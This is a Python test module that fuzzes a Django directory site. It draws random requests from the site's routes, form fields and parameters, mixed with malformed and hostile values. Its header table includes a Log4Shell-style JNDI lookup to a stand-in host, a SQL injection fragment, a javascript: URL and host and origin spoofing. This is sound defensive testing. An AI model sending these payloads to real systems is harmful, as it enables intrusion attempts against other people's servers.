"""Requests drawn at random: every public address, valid, nearly valid and hostile values mixed.

Nothing here names a page: addresses come from the resolver, parameters from the filters, from the
code that reads them and from the forms and links of the pages themselves, so that a page added
tomorrow is attacked tomorrow.
"""

import random
import re
from collections import defaultdict
from dataclasses import dataclass, field
from html import unescape
from pathlib import Path
from urllib.parse import parse_qsl, quote

from django.apps import apps
from django.conf import settings
from django.db.models import FileField, SlugField

from directory.filters import FileFilter
from tests import quality
from tests.hostile.corpus import (
    ELSEWHERE,
    ENCODED,
    LINKS,
    MARKUP,
    METACHARACTERS,
    NUMBERS,
    ODD,
    WORDS,
)

#: Of the admin, what an anonymous reader reaches.
ADMIN = ("admin/", "admin/login/")
HOLE = re.compile(r"<[^>]+>")
READ_PARAMETER = re.compile(r"request\.(?:GET|POST)(?:\.get(?:list)?\(|\[)\"(\w+)\"")
FIELD = re.compile(r"<(?:input|select|textarea|button)\b[^>]*\bname=\"([^\"]+)\"[^>]*>")
SELECT = re.compile(r"<select\b[^>]*\bname=\"([^\"]+)\"[^>]*>(.*?)</select>", re.DOTALL)
VALUE = re.compile(r"\bvalue=\"([^\"]*)\"")
LINK = re.compile(r"(?:href|action|src)=\"([^\"#]*)")
#: Characters; a longer one is a token.
LONGEST_VALUE = 40
METHODS = ["GET"] * 14 + ["HEAD"] * 2 + ["POST"] * 2
ODD_METHODS = ["PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "FOO", "get", "G\u00c9T"]
TYPES = [
    "application/x-www-form-urlencoded", "application/x-www-form-urlencoded", "",
    "multipart/form-data", "multipart/form-data; boundary=x", "application/json", "text/xml",
    "multipart/form-data; boundary=" + "x" * 300,
]  # fmt: skip
HEADERS = {
    "accept": ["*/*", "text/html", "application/json", "application/xml", "x/y;q=x", "text/csv"],
    "accept-encoding": ["gzip", "br, gzip;q=nan", "identity;q=0", "*", "," * 200],
    "accept-language": ["en", "fr-CA", "zz;q=9", "*", "en-" * 60, "fr;q=0"],
    "range": ["bytes=0-10", "bytes=-1", "bytes=9-1", "bytes=0-0,5-2", "bytes=" + "9" * 40 + "-"],
    "if-none-match": ["*", 'W/"x"', '"', "W/", 'W/"' + "x" * 900 + '"'],
    "if-modified-since": ["Sat, 31 Feb 0000 99:99:99 GMT", "x", "Mon, 01 Jan 2035 00:00:00 GMT"],
    "if-unmodified-since": ["Mon, 01 Jan 1990 00:00:00 GMT", "-1"],
    "if-match": ["*", '"x"'],
    "x-forwarded-for": ["1.2.3.4", "1.2.3.4, 5.6.7.8", "::1", "x", "", "1" * 500, "' OR 1=1"],
    "x-forwarded-host": ["mal.example"],
    "x-forwarded-proto": ["https", "javascript"],
    "x-real-ip": ["127.0.0.1", "999.999.999.999"],
    "x-http-method-override": ["DELETE", "POST"],
    "hx-request": ["true", "false", "True", "\u0000"],
    "hx-target": ["resultats", "%ff", "'"],
    "hx-current-url": ["http://testserver/entreprises/", "javascript:alert(1)", "%ff%00", "//"],
    "hx-boosted": ["true"],
    "hx-history-restore-request": ["true"],
    "referer": ["http://mal.example/", "http://testserver/entreprises/?q=a", "x", ""],
    "origin": ["null", "http://mal.example", "http://testserver"],
    "cookie": ["=;;;=; a=b=c", "csrf=x", 'session="' + r"\000" * 8 + '"', "session=" + "x" * 32],
    "host": ["testserver", "mal.example", "testserver:99999", "a b", ""],
    "user-agent": ["", "x" * 2000, "${jndi:ldap://mal.example}", "\u0001"],
    "authorization": ["Basic x", "Bearer " + "A" * 500],
    "content-length": ["-1", "x", "999999999"],
}  # fmt: skip


@dataclass(frozen=True)
class Drawn:
    """One request as it goes in: a path already encoded, a query string, headers, a body."""

    method: str
    path: str
    query: str = ""
    headers: dict = field(default_factory=dict)
    body: bytes = b""
    kind: str = ""

    def __str__(self):
        said = f"{self.method} {self.path}?{self.query} {self.headers}"
        return f"{said} {self.kind} {self.body!r}" if self.body else said


class Attacker:
    """Draws requests; `routes` are the patterns of the resolver, by name."""

    def __init__(self, seed, routes):
        self.dice = random.Random(seed)
        self.routes = [
            route for _, route in routes if route in ADMIN or not route.startswith("admin/")
        ]
        #: Parameter → values that mean something; those of each path's forms apart.
        self.values = defaultdict(set)
        self.forms = defaultdict(set)
        self.holes = self.known_words()
        self.hostile = [*WORDS, *NUMBERS, *MARKUP, *LINKS, *METACHARACTERS, *ELSEWHERE[::7]]
        for name in [*FileFilter.base_filters, *self.parameters_read()]:
            self.values[name] |= {"1"}
        self.values["q"] |= self.phrasings()

    def learn(self, client):
        """Read each page once: its forms and links tell which parameters and values there are."""
        for path in [self.path(route, known=True) for route in self.routes for _ in range(2)]:
            response = client.get(path)
            body = response.getvalue() if response.streaming else response.content
            if "text/html" not in response.headers.get("Content-Type", ""):
                continue
            page = body.decode()
            for tag in FIELD.finditer(page):
                name, value = unescape(tag[1]), VALUE.search(tag[0])
                self.forms[path].add(name)
                # Not a token, which is never twice the same.
                if value and len(value[1]) <= LONGEST_VALUE:
                    self.values[name].add(unescape(value[1]))
            for select in SELECT.finditer(page):
                self.values[unescape(select[1])] |= set(map(unescape, VALUE.findall(select[2])))
            for link in LINK.finditer(page):
                for name, value in parse_qsl(unescape(link[1]).partition("?")[2]):
                    self.values[name].add(value)
        # A draw must not depend on the order in which a set is read.
        self.names = sorted(self.values)
        self.known = {name: sorted(values) for name, values in self.values.items()}

    def draw(self):
        dice = self.dice
        route = dice.choice(self.routes)
        path = self.path(route, known=dice.random() < 0.6)
        method = dice.choice(METHODS if dice.random() < 0.95 else ODD_METHODS)
        body, kind = b"", "application/x-www-form-urlencoded"
        if method not in ("GET", "HEAD"):
            body, kind = self.body(path)
        return Drawn(method, path, self.query(), self.headers(), body, kind)

    # --- Parts of a request

    def path(self, route, known):
        """The route with its holes filled: by what they are made for, or by anything."""
        filled = HOLE.sub(lambda _: quote(self.hole(known), safe="/%"), route)
        path = "/" + re.sub(r"[\\^$]|\(\?P<\w+>|\)", "", filled)
        if not known and self.dice.random() < 0.1:
            path += self.dice.choice(["/", "//", "%00", "/..", ";x", ".json", "?", "%ff", "%2f"])
        return path

    def hole(self, known):
        word = self.dice.choice(self.holes)
        if known:
            return word
        return self.dice.choice([self.spoiled(word), self.anything(), self.dice.choice(ENCODED)])

    def query(self):
        dice = self.dice
        number = dice.choice([0, 1, 1, 1, 2, 2, 3, 4, 6, 12])
        pairs = []
        for _ in range(number):
            name = dice.choice(self.names) if dice.random() < 0.95 else self.anything()
            pairs += [(name, self.value(name))] * dice.choice([1] * 15 + [2, 25])
        encoded = "&".join(
            f"{quote(name)}={quote(value, errors='replace')}" for name, value in pairs
        )
        chance = dice.random()
        if chance < 0.05:
            encoded += "&" + dice.choice(self.names) + "=" + dice.choice([*ENCODED, *ODD])
        elif chance < 0.07:
            encoded = encoded.replace("=", dice.choice(["", "==", "&", "%3D", "[]="]))
        return encoded

    def value(self, name):
        known, chance = self.known.get(name) or [""], self.dice.random()
        if chance < 0.5:
            return self.dice.choice(known)
        if chance < 0.7:
            return self.spoiled(self.dice.choice(known))
        if chance < 0.75:
            return self.dice.choice(self.known[self.dice.choice(self.names)] or [""])
        return self.anything()

    def anything(self):
        word = self.dice.choice(self.hostile)
        return word + self.dice.choice(self.hostile) if self.dice.random() < 0.15 else word

    def spoiled(self, value):
        """A valid value with a slip: a character more, fewer, other, in another case, twice."""
        place = self.dice.randrange(len(value) + 1)
        odd = self.dice.choice("\u00e9'\" -%_\\\u202e\u0663,;[{~\U0001f9ab" + METACHARACTERS)
        return self.dice.choice(
            [
                value[:place] + odd + value[place:],
                value[:place] + value[place + 1 :],
                value.upper(),
                value * 2,
                f" {value}\u00a0",
                "-" + value,
            ]
        )

    def headers(self):
        names = self.dice.sample(sorted(HEADERS), self.dice.choice([0, 0, 1, 1, 2, 5]))
        return {name: self.dice.choice(HEADERS[name]) for name in names}

    def body(self, path):
        dice = self.dice
        kind = dice.choice(TYPES)
        fields = sorted(self.forms[path]) or self.names
        chosen = dice.sample(fields, min(len(fields), dice.choice([0, 1, 3, 12, 40])))
        pairs = [(name, self.value(name)) for name in chosen]
        if dice.random() < 0.1:
            return dice.randbytes(dice.choice([1, 50, 3000])), kind
        if kind.startswith("multipart"):
            mark = kind.partition("boundary=")[2] or "x"
            parts = "".join(
                f'--{mark}\r\nContent-Disposition: form-data; name="{name}"'
                f"{dice.choice(['', '', '; filename=x.png'])}\r\n\r\n{value}\r\n"
                for name, value in pairs
            )
            return f"{parts}--{mark}--\r\n".encode(errors="replace"), kind
        text = "&".join(f"{quote(name)}={quote(value, errors='replace')}" for name, value in pairs)
        return text.encode(), kind

    # --- What is known of the site

    @staticmethod
    def known_words():
        """What may fill the hole of an address: slugs and files of any model, small numbers."""
        words = {"1", "2", "10", "10/300/365"}
        for model in apps.get_app_config("directory").get_models():
            for column in model._meta.get_fields():
                if isinstance(column, (SlugField, FileField)):
                    rows = model._default_manager.order_by("pk").values_list(column.name, flat=True)
                    words |= {str(value) for value in rows[:15] if value}
        return sorted(words)

    @staticmethod
    def parameters_read():
        """Names that the code takes from an address or a form by itself."""
        names = set()
        for app in ("directory", "procurement", "config"):
            for file in sorted(Path(settings.BASE_DIR, app).rglob("*.py")):
                names |= set(READ_PARAMETER.findall(file.read_text()))
        return names

    @staticmethod
    def phrasings():
        import csv

        with quality.PHRASINGS.open(newline="") as file:
            return {row["phrasing"] for row in csv.DictReader(file)}
